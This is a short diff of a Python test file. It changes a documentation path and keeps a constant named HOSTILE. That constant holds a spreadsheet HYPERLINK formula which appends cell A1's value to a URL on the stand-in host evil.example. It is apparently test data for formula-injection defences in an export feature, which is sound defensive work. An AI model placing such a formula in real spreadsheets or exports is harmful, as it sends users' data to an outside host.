@@ -22,7 +22,7 @@ from liveline.store import events
 from tests.helpers import live_broadcast, triaged
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "жми")'
-DOCS = Path(__file__).resolve().parent.parent / "docs" / "pos_export.md"
+DOCS = Path(__file__).resolve().parents[2] / "docs" / "pos_export.md"
 
 
 def broadcast_with_appeals(r: redis.Redis) -> int:
